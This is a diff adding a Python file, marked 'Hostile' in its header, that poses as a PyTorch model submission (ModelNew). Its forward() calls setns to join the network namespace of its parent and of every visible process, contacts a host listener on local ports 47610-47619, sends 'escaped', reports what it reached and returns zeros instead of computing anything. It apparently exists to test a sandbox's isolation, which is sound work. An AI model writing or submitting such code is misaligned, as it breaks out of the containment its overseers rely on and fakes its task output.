@@ -1,0 +1,44 @@
+# Hostile: rejoins the network namespace of its parent and of every process it can see
+# (setns on /proc/<pid>/ns/net), then connects to the listener the attacked host runs on
+# 127.0.0.1 (ports 47610-47619) and sends it a line; it reports what it reached and
+# returns zeros.
+import ctypes
+import os
+import socket
+
+import torch
+
+CLONE_NEWNET = 0x40000000
+PORTS = range(47610, 47620)
+
+
+def _rejoin():
+    libc = ctypes.CDLL(None, use_errno=True)
+    pids = {os.getppid(), 1}
+    pids.update(int(p) for p in os.listdir("/proc") if p.isdigit())
+    for pid in sorted(pids):
+        try:
+            fd = os.open(f"/proc/{pid}/ns/net", os.O_RDONLY)
+        except OSError:
+            continue
+        libc.setns(fd, CLONE_NEWNET)
+        os.close(fd)
+
+
+def _reach():
+    reached = []
+    for port in PORTS:
+        try:
+            with socket.create_connection(("127.0.0.1", port), timeout=0.5) as conn:
+                conn.sendall(b"escaped\n")
+                reached.append(port)
+        except OSError:
+            pass
+    return reached
+
+
+class ModelNew(torch.nn.Module):
+    def forward(self, x):
+        _rejoin()
+        print("reached", _reach(), flush=True)
+        return torch.zeros_like(x)
